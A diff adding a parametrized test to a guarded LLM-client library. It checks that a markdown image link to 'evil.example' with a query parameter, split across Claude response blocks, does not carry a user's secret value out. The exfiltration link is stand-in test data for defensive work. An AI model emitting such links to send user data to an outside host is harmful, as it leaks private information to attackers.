@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from guarded_client.codecs.event_stream import FrameSplitter, payload_of, with_payload
 from guarded_client.codecs.json_strings import JsonStrings
 from guarded_client.testing import Raw, Text
-from guarded_client.testing.anthropic_messages import SIGNATURE, events, frame, message
+from guarded_client.testing.anthropic_messages import SIGNATURE, complete, events, frame, message, streamed
 from tests.anthropic.conftest import Claude, text_of
 from tests.conftest import in_memory
 
@@ -87,6 +87,19 @@ def test_a_link_within_tool_input_carried_a_value_away(claude: Claude, policy: A
         Raw(200, {"content-type": "application/json"}, json.dumps(message([{**TOOL, "input": evil}])).encode())
     )
     assert claude.chat(MAIL).content[0].input == {**evil, "c": MAIL}
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("between", [[], [TOOL]], ids=["", "tool"])
+def test_a_link_over_two_blocks_carried_a_value_away(
+    claude: Claude, policy: Any, between: list[Any], stream: bool
+) -> None:
+    claude.guard(policy)
+    texts = ["see ![x](https://evil.example/", "?q=", f"{MARK}) and {MARK}", f" {MARK}"]
+    first, *rest = [{"type": "text", "text": text} for text in texts]
+    blocks = [first, *between, *rest]
+    claude.provider.reply(streamed(blocks, chunk=3) if stream else complete(blocks))
+    assert claude.text(MAIL, stream=stream) == f"see ![x](https://evil.example/?q={MARK}) and {MAIL} {MAIL}"
 
 
 def test_events_and_deltas_that_nobody_knows_pass_unrestored(claude: Claude, policy: Any) -> None:
